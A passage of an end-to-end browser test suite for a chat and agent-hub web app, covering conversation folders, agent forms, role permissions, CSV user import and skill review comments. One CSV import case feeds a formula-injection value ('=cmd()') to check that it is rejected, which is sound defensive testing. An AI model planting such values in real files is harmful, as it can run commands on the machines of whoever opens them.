  await page.waitForFunction(() => document.activeElement.matches(".chat-edit textarea"));
  await page.keyboard.press("Escape");
  await page.waitForFunction(() => document.activeElement?.closest(".chat-said-foot")); // the focus is back
  await page.keyboard.press("/");
  await page.waitForFunction(() => document.activeElement?.getAttribute("aria-label") === "Message");
  await page.keyboard.press("Control+k");
  await field.fill("rename");
  await palette.getByRole("option", { name: "Rename" }).waitFor();
  await page.keyboard.press("Enter");
  await page.waitForFunction(() => document.activeElement.matches(".chat-head input"));
  await page.keyboard.type("A long walk");
  await page.keyboard.press("Enter");
  await page.getByRole("heading", { level: 1, name: "A long walk" }).waitFor();
  await page.waitForFunction(() => document.activeElement?.matches(".chat-head [aria-haspopup=menu]"));
  await page.keyboard.press("/");
  await page.keyboard.press("Alt+ArrowUp");
  await page.waitForURL(new RegExp(edited));

  const narrow = await window_(t, hub, { width: 360, height: 740, scheme: "dark" });
  await narrow.goto(`/chat/${old}`);
  await narrow.getByText("Remark 11.").first().waitFor();
  await narrow.locator("header.bar").getByRole("button", { name: "Search" }).click();
  await narrow.getByRole("combobox").fill("lighthouse");
  await narrow.locator("mark").first().waitFor();
  await narrow.screenshot({ path: join(pictures, "palette-narrow.png") });
  await fits(narrow, "the palette");
  await narrow.getByRole("dialog").getByRole("button", { name: "Close" }).click();
  await narrow.locator("h1").click();
  await narrow.keyboard.press("?");
  await narrow.getByRole("dialog", { name: "Keyboard shortcuts" }).waitFor();
  await narrow.screenshot({ path: join(pictures, "shortcuts-narrow.png") });
  await fits(narrow, "the list of shortcuts");
  page.calm();
  narrow.calm();
});

test("pin, file and archive a conversation, by keyboard and by mouse; a search finds it, and a message brings it back", async (t) => {
  const hub = await scene(t);
  const ids = {};
  for (const title of ["Tides", "Ships", "Moon"]) {
    ids[title] = (await hub.ask("POST", "/sessions", { title })).id;
    await hub.ask("POST", `/sessions/${ids[title]}/messages`, { text: `Tell me of ${title}.` });
    await over(hub, ids[title]);
  }
  const page = await window_(t, hub, { axe: true });
  await page.goto(`/chat/${ids.Tides}`);
  const list = page.getByRole("navigation", { name: "Conversations" });
  const titles = async (...want) => {
    await page.waitForFunction(
      (want) => [...document.querySelectorAll(".chat-row > a")].map((a) => a.textContent).join() === want,
      want.join(),
    );
  };
  const act = async (title, action) => {
    await list.getByRole("button", { name: `Actions for ${title}` }).click();
    await page.getByRole("menuitem", { name: action, exact: true }).click();
  };
  await titles("Moon", "Ships", "Tides");

  // By keyboard, of the open conversation.
  await page.keyboard.press("Control+k");
  await page.getByRole("combobox").fill("pin");
  await page.getByRole("option", { name: "Pin", exact: true }).waitFor();
  await page.keyboard.press("Enter");
  await titles("Tides", "Moon", "Ships");
  await list.getByRole("region", { name: "Pinned" }).getByRole("link", { name: "Tides" }).waitFor();
  await page.keyboard.press("Alt+ArrowDown");
  await page.waitForURL(new RegExp(ids.Moon));

  // Into a new folder, and another one into the same folder, by keyboard only.
  await act("Ships", "Move to folder…");
  const dialog = page.getByRole("dialog", { name: "Move to folder" });
  await dialog.getByLabel("Folder name").fill("Sea");
  await accessible(page, "the dialog");
  await dialog.getByRole("button", { name: "Move" }).click();
  await dialog.waitFor({ state: "detached" });
  await titles("Tides", "Moon");
  const folder = list.getByRole("button", { name: "Sea 1", exact: true });
  await folder.focus();
  await page.keyboard.press("Enter");
  await titles("Tides", "Ships", "Moon");
  await list.getByRole("button", { name: "Actions for Moon" }).focus();
  await page.keyboard.press("Enter");
  await page.waitForFunction(() => document.activeElement?.getAttribute("role") === "menuitem");
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("Enter");
  await dialog.getByRole("button", { name: "Move" }).focus();
  await page.keyboard.press("Enter");
  await list.getByRole("button", { name: "Sea 2", exact: true }).waitFor();
  await titles("Tides", "Moon", "Ships");
  await page.waitForFunction(() => document.activeElement?.getAttribute("aria-label") === "Actions for Moon");
  await accessible(page, "the list with a folder");
  await page.screenshot({ path: join(pictures, "folders-wide.png") });
  await page.reload();
  await titles("Tides", "Moon", "Ships"); // the folder is still open

  // A pinned conversation is counted in its folder, which says where it is.
  await act("Ships", "Pin");
  await titles("Ships", "Tides", "Moon");
  await list.getByRole("button", { name: "Sea 2", exact: true }).waitFor();
  await list.getByText("1 pinned, listed above").waitFor();
  await act("Ships", "Unpin");
  await titles("Tides", "Moon", "Ships");

  // Archived, it is out of the list. A search finds it.
  await act("Ships", "Archive");
  await titles("Tides", "Moon");
  await list.getByRole("button", { name: "Archived" }).click();
  await titles("Ships");
  await accessible(page, "the archived conversations");
  await page.screenshot({ path: join(pictures, "archived-wide.png") });
  await list.getByRole("button", { name: "All conversations" }).click();
  await page.keyboard.press("Control+k");
  await page.getByRole("combobox").fill("ships");
  await page.getByRole("option", { name: /Ships.*archived/ }).click();
  await page.getByText("This conversation is archived").waitFor();
  await titles("Tides", "Moon");
  const box = page.getByRole("textbox", { name: "Message" });
  await box.fill("And today?");
  await box.press("Enter");
  await page.getByText("This conversation is archived").waitFor({ state: "detached" });
  await titles("Tides", "Ships", "Moon");

  // The folder is renamed, then deleted without its conversations.
  await list.getByRole("button", { name: "Actions for Sea" }).click();
  await page.getByRole("menuitem", { name: "Rename" }).click();
  await page.getByRole("textbox", { name: "Folder name" }).fill("Ocean");
  await page.keyboard.press("Enter");
  await list.getByRole("button", { name: "Ocean 2", exact: true }).waitFor();
  await act("Ocean", "Delete folder");
  await page.getByRole("dialog").getByRole("button", { name: "Delete folder" }).click();
  await list.getByRole("button", { name: /^Ocean/ }).waitFor({ state: "detached" });
  await titles("Tides", "Ships", "Moon");

  const narrow = await window_(t, hub, { width: 360, height: 740, scheme: "dark", language: "zh-CN" });
  await hub.ask("PATCH", `/sessions/${ids.Moon}`, {
    folder: (await hub.ask("POST", "/folders", { name: "海洋与潮汐以及一个很长很长很长很长的文件夹名称" })).id,
  });
  await narrow.goto(`/chat/${ids.Tides}`);
  await narrow.getByRole("button", { name: "显示对话列表" }).click();
  await narrow.getByRole("button", { name: /^海洋/ }).click();
  await narrow.getByRole("link", { name: "Moon" }).waitFor();
  await narrow.screenshot({ path: join(pictures, "folders-narrow.png") });
  await fits(narrow, "the folders");
  // In front of the page, the list shows what a refused name is refused for, and what was done.
  narrow.allowed = [/status of 409/];
  await hub.ask("POST", "/folders", { name: "天空" });
  await narrow
    .getByRole("button", { name: /海洋.*操作|操作.*海洋|“海洋/ })
    .first()
    .click();
  await narrow.getByRole("menuitem").first().click();
  await narrow.locator(".chat-drawer .chat-name input").fill("天空");
  await narrow.keyboard.press("Enter");
  await narrow.locator(".chat-drawer .chat-name [role=alert]").waitFor();
  await narrow.screenshot({ path: join(pictures, "folder-taken-narrow.png") });
  await fits(narrow, "a refused name");
  await narrow.keyboard.press("Escape");
  await narrow.getByRole("button", { name: /Moon/ }).click();
  await narrow.getByRole("menuitem", { name: "归档" }).click();
  await narrow.locator(".chat-drawer .toast").waitFor();
  await narrow.screenshot({ path: join(pictures, "toast-in-list-narrow.png") });
  await narrow.locator(".chat-drawer .toast button").click();
  page.calm();
  narrow.calm();
});

test("titles: the model writes one after the first answer, without a reload, and one by the user remains", async (t) => {
  const vendor = await Vendor.start([{ text: "At noon." }, { text: "At one." }]);
  vendor.title = 'Title: "High water at Cuxhaven"';
  t.after(() => vendor.end());
  const hub = await scene(t, {
    env: { OPENAI_API_KEY: "key" },
    config: `models:\n  default: openai:fake\n  base_url: ${vendor.url}\n`,
  });
  const page = await window_(t, hub);
  await page.goto("/");
  const box = page.getByRole("textbox", { name: "Message" });
  const list = page.getByRole("navigation", { name: "Conversations" });
  const release = vendor.hold();
  await box.fill("When is **high water**?\nIn Cuxhaven.");
  await box.press("Enter");
  await list.getByRole("link", { name: "When is high water?" }).waitFor();
  release();
  await list.getByRole("link", { name: "High water at Cuxhaven" }).waitFor();
  await page.getByRole("heading", { level: 1, name: "High water at Cuxhaven" }).waitFor();
  await page.screenshot({ path: join(pictures, "title-by-model.png") });
  await list.getByRole("button", { name: /^Actions/ }).click();
  await page.getByRole("menuitem", { name: "Rename" }).click();
  await page.getByRole("textbox", { name: "Title of the conversation" }).fill("Mine");
  await page.keyboard.press("Enter");
  await list.getByRole("link", { name: "Mine" }).waitFor();
  await box.fill("And tomorrow?");
  await box.press("Enter");
  await page.getByText("At one.").waitFor();
  await page.reload();
  await list.getByRole("link", { name: "Mine" }).waitFor();
  assert.equal(vendor.titled, 1);
  assert.equal(vendor.heard.length, 2);
  page.calm();
});

test("make an agent: from a template, with a skill and a member, and its documents are written", async (t) => {
  const hub = await scene(t);
  await hub.ask("PUT", "/kinds/Ghost/default/tides", {
    apiVersion: "loadout/v1",
    kind: "Ghost",
    metadata: { name: "tides", namespace: "default", description: "Reads tide tables" },
    spec: { systemPrompt: "Read." },
  });
  const page = await window_(t, hub);
  page.allowed = [/status of 422/];
  await page.goto("/agents");
  await page.getByRole("link", { name: "New agent" }).click();
  await page.getByRole("heading", { name: "New agent" }).waitFor();
  await page.screenshot({ path: join(pictures, "agent-new.png"), fullPage: true });
  await page.getByRole("button", { name: "Create", exact: true }).click();
  await page.getByRole("alert").getByText("Enter a name").first().waitFor();
  const name = page.getByLabel("Name", { exact: true });
  assert.ok(await name.evaluate((e) => e === document.activeElement));
  await page.getByRole("button", { name: /Data analyst/ }).press("Enter");
  assert.equal(await name.inputValue(), "data-analyst");
  await name.fill("tides"); // taken
  await page.getByRole("button", { name: /Technical writer/ }).click(); // the name would be lost
  await page.getByRole("dialog").getByText("It replaces the name").waitFor();
  await page.keyboard.press("Escape");
  assert.equal(await name.inputValue(), "tides");
  const search = page.getByRole("combobox", { name: /Add skill/ });
  await search.fill("skill-creator");
  await page.getByRole("option", { name: /skill-creator/ }).waitFor();
  await search.press("Enter");
  await page.getByRole("button", { name: "Create", exact: true }).click();
  await page.getByText("This name is taken").first().waitFor();
  await page.waitForFunction(() => document.activeElement?.matches('input[aria-invalid="true"]'));
  await name.fill("analyst");
  // Neither a look at "All skills" nor one press of "Discard" loses what was entered.
  await page.getByRole("radio", { name: "Only these skills" }).focus();
  await page.keyboard.press("ArrowUp");
  await page.getByRole("button", { name: "Details of skill-creator" }).waitFor({ state: "detached" });
  await page.keyboard.press("ArrowDown");
  await page.getByText("skill-creator", { exact: true }).first().waitFor();
  await page.getByRole("button", { name: "Discard" }).click();
  await page.getByRole("dialog", { name: "Discard your changes?" }).getByRole("button", { name: "Cancel" }).click();
  assert.equal(await name.inputValue(), "analyst");
  await page.getByLabel("Add member").selectOption({ index: 1 });
  await page.getByLabel("Role").fill("pilot");
  await page.getByRole("link", { name: "Library" }).first().click(); // the input stays
  await page.getByRole("heading", { name: "Library" }).waitFor();
  await page.goBack();
  await page.getByRole("button", { name: "Remove tides" }).waitFor();
  await page.screenshot({ path: join(pictures, "agent-filled.png"), fullPage: true });
  await page.getByText("Show documents").click();
  await page.getByText("kind: Team").waitFor();
  await page.getByRole("button", { name: "Create", exact: true }).press("Enter");
  await page.getByRole("heading", { name: "analyst" }).waitFor();
  const team = await hub.ask("GET", "/kinds/Team/default/analyst");
  assert.deepEqual(team.spec.members, [
    { botRef: { name: "analyst" }, role: "leader" },
    { botRef: { name: "tides" }, role: "pilot" },
  ]);
  assert.deepEqual((await hub.ask("GET", "/kinds/Ghost/default/analyst")).spec.skills, [
    "csv-analysis",
    "mermaid-diagrams",
    "skill-creator",
  ]);
  // Without members it is no team any more.
  await page.getByRole("button", { name: "Remove tides" }).click();
  await page.getByLabel("Description").first().fill("Counts");
  await page.getByRole("button", { name: "Save", exact: true }).click();
  await page.getByText("Saved", { exact: true }).waitFor();
  assert.equal((await hub.ask("GET", "/kinds/Bot/default/analyst")).metadata.description, "Counts");
  const teams = await hub.ask("GET", "/kinds/Team");
  assert.deepEqual(teams.items, []);
  await page.setViewportSize({ width: 360, height: 740 });
  await fits(page, "the form of an agent");
  await page.screenshot({ path: join(pictures, "agent-narrow.png"), fullPage: true });
  await page.getByRole("button", { name: "Actions" }).click();
  await page.getByRole("menuitem", { name: "Delete" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
  await page.getByRole("heading", { name: "Agents" }).waitFor();
  page.calm();
});

test("make an agent: the form of a group's agent offers each role what the hub allows, without a refused request", async (t) => {
  const hub = await scene(t, { accounts: true });
  const root = await window_(t, hub);
  root.allowed = [/status of 401/];
  await root.goto(await hub.setupPath());
  await root.getByLabel("Name", { exact: true }).fill("root");
  await root.getByLabel("Password", { exact: true }).fill(password);
  await root.getByRole("button", { name: "Create account" }).click();
  await root.getByRole("navigation", { name: "Menu" }).waitFor();
  const as = async (method, path, data, type = "application/json") => {
    const headers = { Origin: hub.url, "Content-Type": type };
    const answer = await root.request.fetch(`/api/v1${path}`, { method, data, headers });
    assert.ok(answer.ok(), `${method} ${path}: ${answer.status()}`);
    return answer.json().catch(() => undefined);
  };
  const group = await as("POST", "/groups", { name: "sea" });
  const documents = ["tides", "pilot"].flatMap((name) => [
    { kind: "Ghost", metadata: { name, namespace: "sea", description: "Old" }, spec: { systemPrompt: "Read." } },
    { kind: "Bot", metadata: { name, namespace: "sea", description: `The ${name}` }, spec: { ghostRef: { name } } },
  ]);
  const members = [{ botRef: { name: "pilot" }, role: "leader" }, { botRef: { name: "tides" } }];
  documents.push({ kind: "Team", metadata: { name: "pilot", namespace: "sea" }, spec: { members } });
  await as("POST", "/apply", documents.map((d) => `---\n${JSON.stringify(d)}\n`).join(""), "application/yaml");
  const open = async (name, role, admin) => {
    const { id } = await as("POST", "/users", { name, password, admin });
    if (role) await as("PUT", `/groups/${group.id}/members/${id}`, { role });
    const page = await window_(t, hub);
    page.allowed = [/status of 401/];
    await signIn(page, name);
    await page.goto("/agents/edit/sea/pilot");
    await page.getByRole("heading", { name: "pilot", exact: true }).waitFor();
    return page;
  };
  const offers = async (page) => {
    await page.getByLabel("Description").first().waitFor();
    await settled(page); // parts of the page are loaded later
    return {
      chat: await page.getByRole("link", { name: "Chat", exact: true }).and(page.locator(".button")).count(),
      test: await page.getByRole("region", { name: "Try it" }).count(),
      fields: await page.getByLabel("Description").first().isEnabled(),
      remove: await page.getByRole("button", { name: "Remove tides" }).count(),
      delete: await page.getByRole("button", { name: "Actions" }).count(),
    };
  };
  const save = async (page) => {
    await page.getByRole("button", { name: "Save", exact: true }).click();
    await page.getByText("Saved", { exact: true }).waitFor();
  };

  const reporter = await open("rep", "reporter");
  assert.deepEqual(await offers(reporter), { chat: 1, test: 0, fields: false, remove: 0, delete: 0 });
  assert.ok(await reporter.getByLabel("Role").isDisabled());
  await reporter.getByText("You can use this, but not change it").waitFor();
  await reporter.screenshot({ path: join(pictures, "agent-reporter.png"), fullPage: true });
  await reporter.goto("/agents/new");
  await reporter.locator("option:disabled", { hasText: "Group sea – needs the role" }).waitFor({ state: "attached" });

  const developer = await open("dev", "developer");
  assert.deepEqual(await offers(developer), { chat: 1, test: 1, fields: true, remove: 0, delete: 0 });
  await developer.getByText(/Removing the last member/).waitFor();
  await developer.getByLabel("Description").first().fill("Steers");
  await save(developer);
  const read = (kind, name) => as("GET", `/kinds/${kind}/sea/${name}`);
  assert.equal((await read("Ghost", "pilot")).metadata.description, "Steers");
  assert.equal((await read("Bot", "pilot")).metadata.description, "The pilot");

  const admin = await open("adm", undefined, true);
  assert.deepEqual(await offers(admin), { chat: 0, test: 0, fields: true, remove: 1, delete: 1 });
  await admin.screenshot({ path: join(pictures, "agent-admin.png"), fullPage: true });

  await root.goto("/agents/edit/sea/tides");
  await root.getByRole("button", { name: "Actions" }).click();
  await root.getByRole("menuitem", { name: "Delete" }).click();
  const dialog = root.getByRole("dialog");
  await dialog.getByRole("link", { name: "Team pilot" }).waitFor();
  assert.ok(await dialog.getByRole("button", { name: "Delete" }).isDisabled());
  await root.screenshot({ path: join(pictures, "agent-delete-used.png") });
  await root.goto("/agents/edit/sea/pilot");
  await root.getByRole("button", { name: "Remove tides" }).press("Enter");
  await save(root);
  assert.deepEqual((await as("GET", "/kinds/Team?namespace=sea")).items, []);
  await root.getByRole("button", { name: "Actions" }).click();
  await root.getByRole("menuitem", { name: "Delete" }).click();
  await dialog.getByRole("button", { name: "Delete" }).click();
  await root.getByRole("heading", { name: "Agents" }).waitFor();
  const left = (await as("GET", "/kinds/Bot?namespace=sea")).items.map((b) => b.metadata.name);
  assert.deepEqual(left, ["tides"]);
  for (const page of [root, reporter, developer, admin]) page.calm();
});

test("try an agent by keyboard: before it is saved, in a conversation that is gone afterwards", async (t) => {
  const hub = await scene(t);
  const page = await window_(t, hub);
  await page.goto("/agents/new");
  const talk = page.getByRole("region", { name: "Try it" });
  await page.getByLabel("Name", { exact: true }).fill("tables");
  await page.getByLabel("Description").fill("Knows tides");
  await page.getByRole("radio", { name: "Only these skills" }).focus();
  await page.keyboard.press("Space");
  const search = page.getByRole("combobox", { name: /Add skill/ });
  await search.focus();
  await page.keyboard.type("csv-analysis");
  await page.getByRole("option", { name: /csv-analysis/ }).waitFor();
  await page.keyboard.press("Enter");
  await page.getByText("csv-analysis", { exact: true }).first().waitFor();
  const message = talk.getByRole("textbox", { name: "Message" });
  await message.focus();
  await page.keyboard.type("use the skill csv-analysis");
  await page.keyboard.press("Enter");
  await talk
    .getByText(/csv-analysis/)
    .nth(1)
    .waitFor();
  await page.screenshot({ path: join(pictures, "agent-test.png") });
  assert.deepEqual((await hub.ask("GET", "/sessions")).items, []);
  assert.deepEqual((await hub.ask("GET", "/kinds/Ghost")).items, []);
  // The conversation goes on after the agent is saved, and the focus is not lost.
  await page.getByRole("button", { name: "Create", exact: true }).press("Enter");
  await page.getByRole("heading", { level: 1, name: "tables" }).waitFor();
  await page.waitForFunction(() => document.activeElement?.tagName === "H1");
  const again = page.waitForResponse((r) => r.request().method() === "POST" && /sessions\/.*\/messages/.test(r.url()));
  await message.fill("And once more.");
  await message.press("Enter");
  assert.equal((await again).status(), 202);
  await talk.getByText("And once more.").first().waitFor();
  assert.equal(await talk.locator(".chat-said").count(), 2);
  await page.getByLabel("Description").fill("Knows tables");
  await talk.getByText("The agent has changed").waitFor();
  await page.setViewportSize({ width: 360, height: 740 });
  await fits(page, "the form of an agent with its test chat");
  await talk.scrollIntoViewIfNeeded();
  await page.screenshot({ path: join(pictures, "agent-test-narrow.png") });
  const gone = page.waitForResponse((r) => r.request().method() === "DELETE" && r.url().includes("/sessions/"));
  await talk.getByRole("button", { name: "Start again" }).press("Enter");
  assert.equal((await gone).status(), 204);
  // Unsent text belongs to its form.
  await page.setViewportSize({ width: 1280, height: 800 });
  await message.fill("Not sent yet.");
  await page.getByRole("main").getByRole("link", { name: "Agents" }).click();
  await page.getByRole("link", { name: "New agent" }).click();
  await page.getByRole("heading", { level: 1, name: "New agent" }).waitFor();
  await message.waitFor();
  assert.equal(await message.inputValue(), "");
  page.calm();
});

test("users by CSV: lines with errors are shown and skipped, the others are created with passwords", async (t) => {
  const hub = await scene(t, { accounts: true });
  const page = await window_(t, hub);
  page.allowed = [/status of 401/];
  await page.goto(await hub.setupPath());
  await page.getByLabel("Name", { exact: true }).fill("root");
  await page.getByLabel("Password", { exact: true }).fill(password);
  await page.getByRole("button", { name: "Create account" }).click();
  await page.getByRole("navigation", { name: "Menu" }).waitFor();
  const made = await page.request.post("/api/v1/groups", { data: { name: "sea" }, headers: { Origin: hub.url } });
  const group = (await made.json()).id;
  await page.goto("/admin/users");
  await page.getByRole("button", { name: "Import CSV" }).press("Enter");
  const dialog = page.getByRole("dialog", { name: "Import users" });
  const choose = (text) =>
    dialog.getByLabel("CSV file").setInputFiles({ name: "u.csv", mimeType: "text/csv", buffer: Buffer.from(text) });
  await choose("email\na@b");
  await dialog.getByText(/must name the columns/).waitFor();
  await choose("name,email,groups,role\nada,ada@example.com,sea,developer\n=cmd(),,,\nbob,,lake,\nroot,,,\neve,,,\n");
  await dialog.getByText("5 users in the file. 3 have errors and are skipped.").waitFor();
  await page.screenshot({ path: join(pictures, "users-csv.png") });
  await dialog.getByRole("button", { name: "Create 2 users" }).press("Enter");
  await dialog.getByText("The passwords are shown only here").waitFor();
  const secret = await dialog.getByRole("row", { name: /ada/ }).locator("code").textContent();
  await dialog
    .getByRole("row", { name: /\beve\b/ })
    .locator("code")
    .waitFor();
  await dialog.getByRole("button", { name: /^Create/ }).waitFor({ state: "detached" });
  await page.keyboard.press("Escape");
  await page.mouse.click(5, 5); // nothing closes it without a question
  await dialog.locator("footer").getByRole("button", { name: "Close" }).click();
  await dialog.getByRole("alert").getByText("You have not downloaded the passwords").waitFor();
  await page.setViewportSize({ width: 360, height: 740 });
  await fits(page, "the import of users");
  await page.screenshot({ path: join(pictures, "users-csv-narrow.png") });
  await page.setViewportSize({ width: 1280, height: 800 });
  const [passwords] = await Promise.all([
    page.waitForEvent("download"),
    dialog.getByRole("button", { name: "Download passwords" }).click(),
  ]);
  assert.match(await readFile(await passwords.path(), "utf8"), new RegExp(`ada,ada@example.com,${secret}`));
  await dialog.locator("footer").getByRole("button", { name: "Close" }).click();
  await page.getByText("eve", { exact: true }).waitFor();
  const members = await (await page.request.get(`/api/v1/groups/${group}/members`)).json();
  assert.deepEqual(members.items.map((m) => `${m.user.name} ${m.role}`).sort(), ["ada developer", "root owner"]);
  const [users] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("button", { name: "Export CSV" }).click(),
  ]);
  const exported = await readFile(await users.path(), "utf8");
  assert.match(exported, /\nada,,ada@example.com,sea:developer,false,false,/);
  await page.getByRole("button", { name: "Import CSV" }).click();
  await choose(exported);
  await dialog.getByText("3 users in the file. 3 have errors and are skipped.").waitFor();
  assert.equal(
    await dialog
      .getByRole("row")
      .getByText(/^skipped a user with this name exists$/)
      .count(),
    3,
  );
  await page.keyboard.press("Escape");
  await dialog.waitFor({ state: "detached" });
  const colleague = await window_(t, hub);
  colleague.allowed = page.allowed;
  await colleague.goto("/");
  await colleague.getByLabel("Name", { exact: true }).fill("ada");
  await colleague.getByLabel("Password", { exact: true }).fill(secret);
  await colleague.getByRole("button", { name: "Sign in", exact: true }).click();
  await colleague.getByRole("navigation", { name: "Menu" }).waitFor();
  page.calm();
  colleague.calm();
});

test("help: the link of a page opens its section of the documentation, in both languages", async (t) => {
  const hub = await scene(t);
  const page = await window_(t, hub);
  await page.goto("/agents");
  const help = page.getByRole("navigation", { name: "Menu" }).getByRole("link", { name: "Help" });
  await help.press("Enter");
  const section = page.getByRole("heading", { name: "Agents", exact: true });
  await section.waitFor();
  await page.waitForFunction(() => document.activeElement?.dataset?.slug === "agents");
  assert.ok((await section.boundingBox()).y < 400);
  await page.screenshot({ path: join(pictures, "docs.png") });
  await page.getByRole("button", { name: "Language" }).click();
  await page.getByRole("menuitem", { name: /中文/ }).click();
  await page.getByRole("heading", { name: "智能体", exact: true }).waitFor();
  await page.goto("/docs");
  await page.getByRole("main").getByRole("link").nth(2).waitFor();
  await page.setViewportSize({ width: 360, height: 740 });
  await page.goto("/docs/hub");
  await page.getByRole("heading", { level: 2 }).first().waitFor();
  await fits(page, "the documentation");
  page.calm();
});

test("two users change one agent: the later one keeps the input, sees who was faster, and saves anyway", async (t) => {
  const hub = await scene(t);
  const put = (description) =>
    hub.ask("PUT", "/kinds/Ghost/default/tides", {
      apiVersion: "loadout/v1",
      kind: "Ghost",
      metadata: { name: "tides", namespace: "default", description },
      spec: { systemPrompt: "Read." },
    });
  await put("the first");
  const page = await window_(t, hub);
  page.allowed = [/status of 412/];
  await page.goto("/agents/Ghost/default/tides");
  const field = page.getByLabel("Description");
  await field.fill("mine");
  await put("of somebody else");
  await page.getByRole("button", { name: "Review changes" }).click();
  const dialog = page.getByRole("dialog");
  await dialog.getByText(/You, in another window, changed it on/).waitFor();
  await dialog.getByText("Show saved version").click();
  await dialog.locator("pre").getByText("of somebody else").waitFor();
  await page.screenshot({ path: join(pictures, "scene-stale.png") });
  await put("of somebody else, again"); // also during the review
  await dialog.getByRole("button", { name: "Save anyway" }).click();
  await dialog.locator("td").getByText("of somebody else, again").waitFor();
  await dialog.getByRole("button", { name: "Keep editing" }).click();
  assert.equal(await field.inputValue(), "mine");
  await page.getByRole("button", { name: "Review changes" }).click();
  await dialog.getByRole("button", { name: "Save anyway" }).click();
  await dialog.waitFor({ state: "detached" });
  assert.equal((await hub.ask("GET", "/kinds/Ghost/default/tides")).metadata.description, "mine");
  while ((await field.inputValue()) !== "mine") await page.waitForTimeout(50); // until the page has loaded it again
  page.calm();
});

/** harbourCrew starts a hub with a group: ada uploads to it, ben and root review. as sends a request of a user. */
async function harbourCrew(t) {
  const hub = await scene(t, { accounts: true });
  const root = await window_(t, hub);
  root.allowed = [/status of 401/];
  await root.goto(await hub.setupPath());
  await root.getByLabel("Name", { exact: true }).fill("root");
  await root.getByLabel("Password", { exact: true }).fill(password);
  await root.getByRole("button", { name: "Create account" }).click();
  await root.getByRole("navigation", { name: "Menu" }).waitFor();
  const as = async (page, method, path, data, headers) => {
    const answer = await page.request.fetch(`/api/v1${path}`, {
      method,
      data,
      headers: { Origin: hub.url, ...headers },
    });
    assert.ok(answer.ok(), `${method} ${path}: ${answer.status()} ${await answer.text()}`);
    return answer.status() === 204 ? undefined : answer.json().catch(() => undefined);
  };
  const group = await as(root, "POST", "/groups", { name: "harbour" });
  const pages = { root };
  for (const [name, role] of [
    ["ada", "developer"],
    ["ben", "maintainer"],
  ]) {
    const { id } = await as(root, "POST", "/users", { name, password });
    await as(root, "PUT", `/groups/${group.id}/members/${id}`, { role });
    pages[name] = await window_(t, hub);
    pages[name].allowed = root.allowed;
    await signIn(pages[name], name);
  }
  return { hub, as, group, ...pages };
}

const zipType = { "Content-Type": "application/zip" };

/** How a control is pressed by each hand. */
const hands = {
  mouse: (page, control) => control.click(),
  keyboard: async (page, control) => {
    await control.focus();
    await page.keyboard.press("Enter");
  },
};

/** threeVersions uploads versions of a skill, of which ben approved the first. The third one changes only SKILL.md. */
async function threeVersions({ as, group, ada, ben }) {
  const picture = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>';
  const packed = (says, files) =>
    zip(
      {
        "SKILL.md": skill("tides", `${says} Use for tides.`),
        "scripts/tide.py": "import sys\n",
        "assets/table.svg": picture,
        ...files,
      },
      "tides",
    );
  const { id, digest } = await as(
    ada,
    "POST",
    `/skills?file_name=tides.zip&namespace=group:${group.id}`,
    packed("One."),
    zipType,
  );
  await as(ben, "PUT", `/skills/${id}/versions/1/review`, { decision: "approved", digest });
  const add = (...version) =>
    as(ada, "POST", `/skills/${id}/versions?file_name=tides.zip`, packed(...version), zipType);
  await add("Two.", { "scripts/extra.py": "import os\n" });
  const comment = async (where) => (await as(ben, "POST", `/skills/${id}/versions/2/comments`, where)).comment;
  const comments = {
    gone: await comment({ path: "scripts/extra.py", line: 1, text: "Why **os**?" }),
    same: await comment({ path: "scripts/tide.py", line: 1, text: "Why **sys**?" }),
    picture: await comment({ path: "assets/table.svg", text: "Why **empty**?" }),
  };
  await add("Three.");
  return { id, comments };
}

for (const [hand, press] of Object.entries(hands))
  test(`open comments stay visible with a version that does not touch their files: by ${hand}`, async (t) => {
    const crew = await harbourCrew(t);
    const { as, ada, ben } = crew;
    const { id, comments } = await threeVersions(crew);
    await ben.goto(`/review/${id}/3`);
    const others = ben.getByRole("region", { name: "Comments on other files" });
    const file = (path) => others.getByRole("region", { name: path, exact: true });
    await file("scripts/extra.py").locator("strong", { hasText: "os" }).waitFor();
    await file("scripts/extra.py").getByText("not in this version").waitFor();
    await file("scripts/tide.py").locator("strong", { hasText: "sys" }).waitFor();
    await file("scripts/tide.py").getByText("not changed").waitFor();
    const link = file("scripts/extra.py").getByRole("link", { name: "Open file of version 2" });
    assert.equal(await (await ben.request.get(await link.getAttribute("href"))).text(), "import os\n");
    const decision = ben.getByRole("complementary", { name: "Decision" });
    await decision.getByText("3 open threads").waitFor();
    await ben.screenshot({ path: join(pictures, "review-other-files.png"), fullPage: true });

    await press(ben, file("scripts/extra.py").locator(".review-toggle")); // close it
    await others.locator(`#thread-${comments.gone}`).waitFor({ state: "detached" });
    await press(ben, decision.getByRole("link", { name: "Show the first" }));
    const focused = (of) => ben.waitForFunction((i) => document.activeElement?.id === `thread-${i}`, of);
    await focused(comments.gone); // it opens the file
    await press(ben, others.locator(`#thread-${comments.gone}`).getByRole("button", { name: "Resolve" }));
    await focused(comments.gone);
    await ben.getByRole("status").getByText("Thread resolved").waitFor();
    await decision.getByText("2 open threads").waitFor();
    const other = others.locator(`#thread-${comments.same}`);
    await press(ben, other.getByRole("button", { name: "Reply" }));
    await other.getByRole("textbox", { name: "Reply" }).waitFor();
    await ben.keyboard.type("Never mind.");
    await ben.keyboard.press("Control+Enter");
    await other.getByText("Never mind.").waitFor();
    await focused(comments.same);
    await ben.getByRole("status").getByText("Reply added").waitFor();

    // All files: each thread is at its line or below its picture, once.
    await ben.getByLabel("Compare with").selectOption("0");
    const whole = ben.getByRole("region", { name: "assets/table.svg", exact: true });
    await whole.locator("img").waitFor();
    await whole.locator("strong", { hasText: "empty" }).waitFor();
    await ben.getByRole("region", { name: "scripts/tide.py", exact: true }).getByText("Never mind.").waitFor();
    await file("scripts/extra.py").locator(`#thread-${comments.gone}`).waitFor();
    const repeated = () =>
      [...document.querySelectorAll("[id]")].filter((e, i, all) => all.some((x, n) => n < i && x.id === e.id));
    assert.equal(await ben.evaluate(`(${repeated})().length`), 0);

    // A link to a comment opens what contains it.
    await as(ada, "PUT", `/skills/${id}/versions/2/viewed`, { path: "scripts/extra.py", viewed: true });
    await ada.goto(`/review/${id}/2#thread-${comments.gone}`);
    await ada.waitForFunction((i) => document.activeElement?.id === `thread-${i}`, comments.gone);
    await ada.locator(`#thread-${comments.gone}`).getByText("Why os?").waitFor();
